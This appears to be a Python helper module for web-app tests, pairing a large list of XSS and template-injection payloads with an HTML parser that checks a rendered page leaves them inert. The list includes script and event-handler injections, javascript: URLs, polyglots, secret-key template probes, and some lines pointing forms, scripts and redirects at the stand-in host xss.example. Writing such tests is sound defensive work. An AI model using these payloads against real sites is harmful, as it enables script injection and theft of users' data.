"""Hostile text for the XSS tests, and a checker that reads a page the way a browser would.

Every payload carries the marker "xss" in the part that would run or open an element
(`__xss=1`, `alert('xss')`, `id=xss`, a `<xss>` tag), so the checker can tell an element
or attribute the payload created from one the page itself has. A payload written as text
is inert: its marker only ever sits in text, or in the value of a form field, a title or
a data-* attribute, where a browser reads it as data.
"""

import html
import re
from html.parser import HTMLParser

PAYLOADS = [
    # Script elements, plain and disguised
    "<script>__xss=1</script>",
    "<SCRIPT>alert('xss')</SCRIPT>",
    "<script src=//xss.example/x.js></script>",
    "<scr<script>ipt>__xss=1</script>",
    "<script\t>__xss=1</script>",
    "<script/xss>__xss=1</script>",
    '<script type="module">__xss=1</script>',
    "</script><script>__xss=1</script>",
    "<script>/*</script>*/__xss=1</script>",
    "'\";</script><script>__xss=1//",
    # Event handlers on ordinary elements
    "<img src=x onerror=__xss=1>",
    "<img src=x onerror=\"alert('xss')\">",
    "<IMG SRC=x ONERROR=__xss=1>",
    "<img src=x onerror=__xss=1//",
    "<img/src/onerror=__xss=1>",
    "<img src=`x`onerror=__xss=1>",
    "<body onload=__xss=1>",
    "<div onmouseover=__xss=1>hover</div>",
    "<input autofocus onfocus=__xss=1>",
    "<select autofocus onfocus=__xss=1>",
    "<textarea autofocus onfocus=__xss=1>",
    "<details open ontoggle=__xss=1>",
    "<video><source onerror=__xss=1>",
    "<audio src=x onerror=__xss=1>",
    "<marquee onstart=__xss=1>",
    "<a onclick=__xss=1 href=#>click</a>",
    "<p style=x onpointerenter=__xss=1>",
    "<object data=x onerror=__xss=1>",
    "<image src=x onerror=__xss=1>",
    "<img src=x:xss onerror=eval(name)>",
    # Breaking out of attributes and elements the value may sit in
    '" onmouseover="__xss=1',
    "' onmouseover='__xss=1",
    '" autofocus onfocus="__xss=1" x="',
    "' autofocus onfocus='__xss=1' x='",
    '"><script>__xss=1</script>',
    "'><script>__xss=1</script>",
    '"><img src=x onerror=__xss=1>',
    "</textarea><script>__xss=1</script>",
    "</title><script>__xss=1</script>",
    "</style><script>__xss=1</script>",
    "</option></select><img src=x onerror=__xss=1>",
    "</td></tr></table><b id=xss>out</b>",
    "</p></dd></dl><b id=xss>out</b>",
    "--><script>__xss=1</script>",
    "]]><script>__xss=1</script>",
    "` onmouseover=__xss=1 x=`",
    '" style="background:url(javascript:__xss=1)',
    # URLs that run script
    "javascript:__xss=1",
    "JaVaScRiPt:alert('xss')",
    " javascript:void(__xss=1)",
    "java\tscript:__xss=1",
    "javascript&colon;__xss=1",
    "&#106;avascript:__xss=1",
    "data:text/html,<script>__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    "vbscript:msgbox('xss')",
    '<a href="javascript:__xss=1">link</a>',
    '<a href="  javascript:__xss=1">link</a>',
    '<a href="data:text/html,xss">link</a>',
    '<form action="javascript:__xss=1"><button>go</button></form>',
    '<button formaction="javascript:__xss=1">go</button>',
    '<base href="//xss.example/">',
    # SVG and MathML
    "<svg onload=__xss=1>",
    "<svg/onload=__xss=1>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><animate onbegin=__xss=1 attributeName=x>",
    "<svg><a xlink:href=javascript:__xss=1><text>x</text></a>",
    "<svg><set attributeName=onmouseover to=__xss=1>",
    "<svg><foreignObject><img src=x onerror=__xss=1>",
    "<math><mtext><img src=x onerror=__xss=1>",
    "<math href=javascript:__xss=1>x</math>",
    "<math><style><img src=x onerror=__xss=1>",
    # Frames, objects, forms, meta and base
    '<iframe srcdoc="<script>__xss=1</script>">',
    "<iframe src=javascript:__xss=1>",
    "<iframe src=//xss.example>",
    "<embed src=javascript:__xss=1>",
    "<object data=javascript:__xss=1>",
    "<form id=xss action=//xss.example method=post><input name=code></form>",
    "<input form=xss formaction=//xss.example type=submit>",
    '<meta http-equiv="refresh" content="0;url=//xss.example">',
    '<meta http-equiv="refresh" content="0;javascript:__xss=1">',
    "<link rel=stylesheet href=//xss.example/x.css>",
    "<isindex action=javascript:__xss=1 type=image>",
    # CSS
    "<style>body{background:url('//xss.example')}</style>",
    '<div style="width:expression(__xss=1)">',
    '<div style="background:url(javascript:__xss=1)">',
    "<style>@import '//xss.example/x.css';</style>",
    "x{}</style><style>*{xss:expression(__xss=1)}",
    # Template and server-side injection
    "{{7*7}}",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "{% debug %}",
    "{% load static %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.session }}",
    "{{constructor.constructor('__xss=1')()}}",
    "[[ 7*7 ]] {{= 7*7 }} @(7*7)",
    "{{'a'.__class__.__mro__}}",
    '{{#with "xss"}}{{this}}{{/with}}',
    # Encodings, entities and Unicode tricks
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "&#60;script&#62;__xss=1&#60;/script&#62;",
    "%3Cscript%3E__xss=1%3C/script%3E",
    "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
    "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
    "<scr\u200bipt>__xss=1</scr\u200bipt>",
    "\u202e<script>__xss=1</script>",
    "+ADw-script+AD4-__xss=1+ADw-/script+AD4-",
    "<script>__xss=1</script>\U0001f600 caf\u00e9",
    "<!--<script>__xss=1</script>-->",
    "<![CDATA[<script>__xss=1</script>]]>",
    '<?xml version="1.0"?><xss/>',
    "<!DOCTYPE xss>",
    # Odd tags and parser states
    "<xss onpointerover=__xss=1>x</xss>",
    "<plaintext id=xss>",
    '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
    "<template><script>__xss=1</script></template>",
    "<b id=xss>bold</b> and <i>italic</i>",
    "<img src=x id=xss name=xss>",
    "<a id=xss name=xss href=//xss.example>clobber</a>",
    # Several lines, and text that only looks like a formula elsewhere
    "line one\n<script>__xss=1</script>\nline three",
    '=HYPERLINK("//xss.example","<b>xss</b>")',
    "+1<img src=x onerror=__xss=1>",
    "-2<svg onload=__xss=1>",
    "@SUM(1)<script>__xss=1</script>",
    # Polyglots
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss=1 )//",
    "'\"--></style></script><svg onload=__xss=1>",
    "\"'><img src=x onerror=__xss=1>{{7*7}}${7*7}",
]

# The worst of them for a real browser: each would set window.__xss or open a dialog.
BROWSER_WORST = [
    "<script>__xss=1</script>",
    "<img src=x onerror=__xss=1>",
    "<svg onload=__xss=1>",
    '"><img src=x onerror="alert(\'xss\')">',
    '" autofocus onfocus="__xss=1" x="',
    "' autofocus onfocus='__xss=1' x='",
    "</textarea><script>__xss=1</script>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "<details open ontoggle=__xss=1>",
    "{{constructor.constructor('__xss=1')()}}",
    "'\"--></style></script><svg onload=__xss=1>",
]

MARKER = "xss"

# Attributes a browser treats as data: a marker in them is only text.
DATA_ATTRIBUTES = {"value", "title", "alt", "placeholder", "aria-label", "aria-description"}


def looks_like(value: str) -> str:
    """The text as the browser shows it: runs of white space are one space."""
    return re.sub(r"\s+", " ", value).strip()


class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.created: list[str] = []
        self.text: list[str] = []
        self._raw_kind = None  # "script" or "style" while inside one
        self._script_is_data = False

    def _attrs(self, tag, attrs):
        if MARKER in tag.lower():
            self.created.append(f"<{tag}>")
        for name, value in attrs:
            name = name.lower()
            value = value or ""
            if MARKER in name:
                self.created.append(f"<{tag} {name}>")
            elif MARKER in value.lower() and not (
                name in DATA_ATTRIBUTES or name.startswith("data-")
            ):
                self.created.append(f"<{tag} {name}={value!r}>")
            if name in ("value", "title", "alt", "placeholder") or name.startswith("data-"):
                self.text.append(value)

    def handle_starttag(self, tag, attrs):
        self._attrs(tag, attrs)
        if tag in ("script", "style"):
            self._raw_kind = tag
            kind = (dict(attrs).get("type") or "").lower()
            self._script_is_data = tag == "script" and kind in (
                "application/json",
                "application/ld+json",
                "text/template",
            )

    def handle_startendtag(self, tag, attrs):
        self._attrs(tag, attrs)

    def handle_endtag(self, tag):
        if tag == self._raw_kind:
            self._raw_kind = None
        if MARKER in tag.lower():
            self.created.append(f"</{tag}>")

    def handle_data(self, data):
        if self._raw_kind and not self._script_is_data and MARKER in data.lower():
            self.created.append(f"<{self._raw_kind}>{data[:80]!r}")
        elif not self._raw_kind:
            self.text.append(data)

    def handle_comment(self, data):
        if MARKER in data.lower():
            self.created.append(f"<!--{data[:80]!r}-->")

    def handle_decl(self, decl):
        if MARKER in decl.lower():
            self.created.append(f"<!{decl[:80]!r}>")

    def handle_pi(self, data):
        if MARKER in data.lower():
            self.created.append(f"<?{data[:80]!r}>")

    def unknown_decl(self, data):
        if MARKER in data.lower():
            self.created.append(f"<![{data[:80]!r}]>")


def read(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    return parser


def created_by_payload(page: str) -> list[str]:
    """Elements, attributes, scripts, styles and comments on the page that carry the marker
    where a browser would act on it."""
    return read(page).created


def shown_text(page: str) -> str:
    """What a person reads on the page: text, and the values of fields and titles."""
    return looks_like(" ".join(read(page).text))


def assert_inert(page: str, *shown: str, where: str = "") -> None:
    """Nothing on the page came from a payload, and each of `shown` reads as written."""
    parsed = read(page)
    assert parsed.created == [], (where, parsed.created[:5])
    if shown:
        text = looks_like(" ".join(parsed.text))
        missing = [s for s in shown if looks_like(s) not in text]
        assert missing == [], (where, missing[:5])


def escaped_in_html(value: str) -> str:
    return html.escape(value, quote=True)
